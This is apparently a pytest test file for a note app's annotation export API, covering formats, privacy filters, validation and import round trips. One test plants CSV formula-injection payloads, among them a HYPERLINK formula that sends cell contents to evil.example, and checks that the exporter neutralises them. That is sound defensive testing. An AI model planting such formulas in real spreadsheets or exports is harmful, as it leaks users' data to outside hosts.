"""GET /api/export: who may export what, the filters, the headers, bad input, the round trip."""

from __future__ import annotations

import csv
import io
import json
import zipfile

import pytest

from postil import db
from postil.models import Post

FORMATS = ("markdown", "zip", "json", "jsonld", "csv", "html")


def export(client, reader, query: str):
    return client.get(f"/api/export?{query}", headers=reader.headers)


def exported(client, reader, query: str = "") -> list[dict]:
    res = export(client, reader, "format=json" + (f"&{query}" if query else ""))
    assert res.status_code == 200, res.get_json()
    return res.get_json()["annotations"]


@pytest.mark.parametrize("fmt, mimetype, ext", [
    ("markdown", "text/markdown", "md"), ("zip", "application/zip", "zip"),
    ("json", "application/json", "json"), ("jsonld", "application/ld+json", "jsonld"),
    ("csv", "text/csv", "csv"), ("html", "text/html", "html"),
])
def test_each_format_is_an_attachment_with_a_file_name(client, alice, create, fmt, mimetype,
                                                       ext):
    create(alice)
    res = export(client, alice, f"format={fmt}")
    assert res.status_code == 200
    assert res.mimetype == mimetype
    assert res.headers["Content-Disposition"].startswith('attachment; filename="postil-alice-')
    assert res.headers["Content-Disposition"].endswith(f'.{ext}"')
    assert res.is_streamed


def test_the_two_csv_flavours_download_under_different_names(client, alice, create):
    create(alice)
    full = export(client, alice, "format=csv").headers["Content-Disposition"]
    readwise = export(client, alice, "format=csv&flavor=readwise").headers["Content-Disposition"]
    assert full != readwise
    assert 'filename="postil-alice-readwise-' in readwise and readwise.endswith('.csv"')


def test_default_is_your_own_annotations_public_and_private(client, alice, bob, create):
    mine = {create(alice)["id"], create(alice, visibility="public")["id"]}
    create(bob, visibility="public")
    assert {a["id"] for a in exported(client, alice)} == mine


def test_user_filter_gives_another_authors_public_annotations_only(client, alice, bob, create):
    public = create(bob, visibility="public", note="shared")
    private = create(bob, visibility="private", note="secret diary")
    assert [a["id"] for a in exported(client, alice, "user=bob")] == [public["id"]]
    for fmt in FORMATS:
        res = export(client, alice, f"format={fmt}&user=bob")
        body = res.data if fmt == "zip" else res.get_data(as_text=True)
        if fmt == "zip":
            archive = zipfile.ZipFile(io.BytesIO(body))
            body = "".join(archive.read(n).decode() for n in archive.namelist())
        assert private["id"] not in body and "secret diary" not in body, fmt


def test_another_users_private_annotations_cannot_be_exported_any_way(client, alice, bob, anon,
                                                                       create):
    secret = create(bob, visibility="private", note="secret diary")
    for query in ("user=bob", "user=bob&visibility=private", "visibility=private",
                  "q=secret&user=bob", "site=blog.example.org&post_id=42&user=bob"):
        for reader in (alice, anon):
            res = export(client, reader, f"format=json&{query}")
            if res.status_code == 200:
                assert secret["id"] not in res.get_data(as_text=True), query


def test_anonymous_needs_an_author_and_gets_public_ones(client, alice, anon, create):
    public = create(alice, visibility="public")
    create(alice)
    res = export(client, anon, "format=json")
    assert res.status_code == 401
    assert res.get_json()["error"]["code"] == "unauthorized"
    assert [a["id"] for a in exported(client, anon, "user=alice")] == [public["id"]]


def test_filters_work_as_in_the_query(client, alice, create):
    a = create(alice, tags=["china", "policy"], color="green", note="about chips")
    b = create(alice, tags=["china"], color="yellow", visibility="public")
    c = create(alice, post={"site": "other.example", "post_id": 7,
                            "url": "https://other.example/p", "title": "Other"})
    ids = lambda q: [x["id"] for x in exported(client, alice, q)]  # noqa: E731
    assert ids("tag=china&tag=policy") == [a["id"]]
    assert ids("color=yellow") == [c["id"], b["id"]], "the post annotated last first"
    assert ids("visibility=public") == [b["id"]]
    assert ids("q=chips") == [a["id"]]
    assert ids("site=other.example&post_id=7") == [c["id"]]
    assert ids("url=https://www.other.example/p") == [c["id"]]
    # a and b mark the same passage: the older first (tests/fixtures/order-cases.json).
    assert ids("") == [c["id"], a["id"], b["id"]]


def test_grouped_formats_keep_a_posts_annotations_together(client, alice, create):
    other = {"site": "other.example", "post_id": 7, "url": "https://other.example/p",
             "title": "Other post"}
    create(alice, quote="first on margins")
    create(alice, post=other, quote="first on other")
    create(alice, quote="second on margins")
    text = export(client, alice, "format=markdown").get_data(as_text=True)
    assert text.count("## On margins") == 1 and text.count("## Other post") == 1
    margins, other_section = text.split("## Other post")
    assert "first on margins" in margins and "second on margins" in margins


def test_tombstones_are_not_exported(client, alice, create):
    gone = create(alice)
    client.delete(f"/api/annotations/{gone['id']}", headers=alice.headers)
    assert exported(client, alice) == []
    assert exported(client, alice, "updated_since=2000-01-01T00:00:00Z") == []


@pytest.mark.parametrize("query, field", [
    ("", "format"), ("format=pdf", "format"), ("format=json&flavor=readwise", "flavor"),
    ("format=csv&flavor=kindle", "flavor"), ("format=json&limit=10", "limit"),
    ("format=json&cursor=abc", "cursor"), ("format=json&include_deleted=1", "include_deleted"),
    ("format=json&color=mauve", "color"), ("format=json&colour=red", "colour"),
    ("format=json&updated_since=yesterday", "updated_since"), ("format=json&sort=title", "sort"),
])
def test_bad_input_is_a_400_in_the_error_shape(client, alice, query, field):
    res = export(client, alice, query)
    assert res.status_code == 400
    error = res.get_json()["error"]
    assert error["code"] == "validation_error" and error["field"] == field
    assert error["message"]


def test_an_invalid_token_is_401_not_anonymous(client):
    res = client.get("/api/export?format=json&user=alice",
                     headers={"Authorization": "Bearer pst_wrong"})
    assert res.status_code == 401


def test_csv_has_a_header_and_every_field(client, alice, create):
    made = create(alice, tags=["a", "b"])
    rows = list(csv.DictReader(io.StringIO(export(client, alice, "format=csv").get_data(
        as_text=True))))
    assert len(rows) == 1
    row = rows[0]
    assert row["id"] == made["id"] and row["user"] == "alice" and row["post_id"] == "42"
    assert row["tags"] == "a, b" and row["note"] == made["note"]
    assert json.loads(row["selectors"]) == made["selectors"]
    assert row["passage_url"].startswith(made["post"]["url"] + "#:~:text=")


def test_a_formula_in_a_note_is_inert_in_csv(client, alice, create):
    payloads = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)",
                "\t=1", " =1+1"]
    for payload in payloads:
        create(alice, note=payload, tags=[payload.strip() or "t"], quote=payload)
    for query in ("format=csv", "format=csv&flavor=readwise"):
        text = export(client, alice, query).get_data(as_text=True)
        for row in csv.reader(io.StringIO(text)):
            for cell in row:
                assert cell.lstrip(" ")[:1] not in ("=", "+", "-", "@", "\t", "\r"), (query, cell)
        assert "'=HYPERLINK" in text


def test_readwise_flavor_has_readwises_columns(client, alice, create):
    create(alice, tags=["x", "y"])
    rows = list(csv.reader(io.StringIO(
        export(client, alice, "format=csv&flavor=readwise").get_data(as_text=True))))
    assert rows[0] == ["Highlight", "Title", "Author", "URL", "Note", "Color", "Tags",
                       "Location Type", "Location", "Highlighted at"]
    assert rows[1][0] == "notes in the margin" and rows[1][1] == "On margins"
    assert rows[1][6] == "x, y" and rows[1][7:9] == ["order", "120"]


def test_zip_has_a_markdown_file_per_post_with_front_matter(client, alice, create):
    create(alice, tags=["history"])
    create(alice, tags=["History", "books"])
    create(alice, post={"post_id": None, "url": "https://news.example/a/b?utm_source=x",
                        "title": 'Slashes / colons: and "quotes"?'})
    archive = zipfile.ZipFile(io.BytesIO(export(client, alice, "format=zip").data))
    assert archive.testzip() is None
    names = sorted(archive.namelist())
    assert names == ["Postil/On margins.md", "Postil/Slashes colons and quotes.md"]
    front = parse_front_matter(archive.read("Postil/On margins.md").decode())
    assert front["title"] == "On margins" and front["post_id"] == 42
    assert front["site"] == "blog.example.org" and front["tags"] == ["history", "books"]
    assert front["url"] == "https://blog.example.org/2026/05/on-margins/"
    assert front["exported_at"].endswith("Z")
    other = parse_front_matter(archive.read("Postil/Slashes colons and quotes.md").decode())
    assert other["post_id"] is None and other["title"] == 'Slashes / colons: and "quotes"?'


def parse_front_matter(text: str) -> dict:
    """Parse the export's YAML front matter strictly.

    The exporter writes every value in YAML's JSON-compatible flow style, so each line is
    `key: <JSON>`; PyYAML parses it too where it is installed.
    """
    assert text.startswith("---\n")
    block, _, body = text[4:].partition("\n---\n")
    assert body.startswith("\n# "), "the body follows the front matter"
    data = {}
    for line in block.splitlines():
        key, sep, value = line.partition(": ")
        assert sep and key.isidentifier(), line
        data[key] = json.loads(value)
    try:
        import yaml
    except ImportError:
        return data
    assert yaml.safe_load(block) == data
    return data


def test_native_json_round_trips_every_field(client, app, alice, create):
    """Export, wipe the database's posts and annotations, import: the same annotations."""
    create(alice, visibility="public", color="purple", tags=["x", "Y z"],
           note="**Bold** and <em>raw</em>\n\n1. list")
    create(alice, post={"post_id": None, "url": "https://news.example/story?id=3&utm_source=x",
                        "title": "Not WordPress"}, selectors=[], quote="")
    made = create(alice, note="edited later")
    client.patch(f"/api/annotations/{made['id']}", json={"note": "edited", "tags": ["late"]},
                 headers=alice.headers)
    client.delete(f"/api/annotations/{create(alice)['id']}", headers=alice.headers)
    before = export(client, alice, "format=json").get_json()

    with app.app_context():
        db.database.connect(reuse_if_open=True)
        Post.delete().execute()  # cascades to annotations and tags: a fresh server
        db.database.close()
    assert exported(client, alice) == []

    res = client.post("/api/import", json=before, headers=alice.headers)
    assert res.get_json() == {"format": "json", "created": 3, "unchanged": 0, "failed": []}
    after = export(client, alice, "format=json").get_json()
    strip = lambda items: [a | {"post": {k: v for k, v in a["post"].items() if k != "id"}}  # noqa: E731
                           for a in items]
    assert strip(after["annotations"]) == strip(before["annotations"])
    assert next(a for a in after["annotations"] if a["id"] == made["id"])["version"] == 2

    again = client.post("/api/import", json=before, headers=alice.headers)
    assert again.get_json() == {"format": "json", "created": 0, "unchanged": 3, "failed": []}


def test_jsonld_round_trips_the_fields_w3c_carries(client, app, alice, create):
    create(alice, visibility="public", color="green", tags=["a", "b"], note="*note*")
    create(alice, post={"post_id": None, "url": "https://news.example/story",
                        "title": "Not WordPress"})
    before = exported(client, alice)
    doc = json.loads(export(client, alice, "format=jsonld").data)
    assert doc["type"] == "AnnotationCollection" and doc["total"] == 2
    page = doc["@included"][0]
    assert page["type"] == "AnnotationPage" and page["id"] == doc["first"] == doc["last"]
    assert [i["type"] for i in page["items"]] == ["Annotation", "Annotation"]

    with app.app_context():
        db.database.connect(reuse_if_open=True)
        Post.delete().execute()
        db.database.close()
    res = client.post("/api/import", json=doc, headers=alice.headers)
    assert res.get_json() == {"format": "jsonld", "created": 2, "unchanged": 0, "failed": []}
    after = exported(client, alice)
    carried = ("id", "quote", "selectors", "note", "note_html", "color", "tags", "visibility",
               "created", "updated", "user")
    for old, new in zip(before, after, strict=True):
        assert {k: new[k] for k in carried} == {k: old[k] for k in carried}
        assert {k: new["post"][k] for k in ("site", "post_id", "url", "title")} == \
               {k: old["post"][k] for k in ("site", "post_id", "url", "title")}


def test_jsonld_pages_split_long_exports(client, alice, create, monkeypatch):
    from postil.exports import jsonld_export

    monkeypatch.setattr(jsonld_export, "PAGE_SIZE", 2)
    for _ in range(5):
        create(alice)
    doc = json.loads(export(client, alice, "format=jsonld").data)
    pages = doc["@included"]
    assert [p["startIndex"] for p in pages] == [0, 2, 4]
    assert [len(p["items"]) for p in pages] == [2, 2, 1]
    assert pages[0]["next"] == pages[1]["id"] and "next" not in pages[2]
    assert doc["total"] == 5 and doc["last"] == pages[2]["id"]


def test_markdown_links_each_highlight_to_its_passage(client, alice, create):
    create(alice)
    text = export(client, alice, "format=markdown").get_data(as_text=True)
    assert ("(https://blog.example.org/2026/05/on-margins/#:~:text="
            "have%20always%20written-,notes%20in%20the%20margin,-of%20the%20books%20they)") in text
    assert "> notes in the margin" in text and "#history" in text and "· yellow ·" in text


def test_date_range_filters_apply_to_exports(client, alice):
    doc = {"format": "postil-export", "format_version": 1, "annotations": [
        {"id": f"00000000-0000-4000-8000-00000000000{n}",
         "post": {"site": "blog.example.org", "post_id": 42, "url": "https://blog.example.org/p"},
         "note": f"n{n}", "created": f"2026-0{n}-01T00:00:00Z"} for n in (1, 2, 3)]}
    assert client.post("/api/import", json=doc, headers=alice.headers).get_json()["created"] == 3
    notes = [a["note"] for a in exported(client, alice, "created_after=2026-01-15T00:00:00Z"
                                                        "&created_before=2026-02-15T00:00:00Z")]
    assert notes == ["n2"]
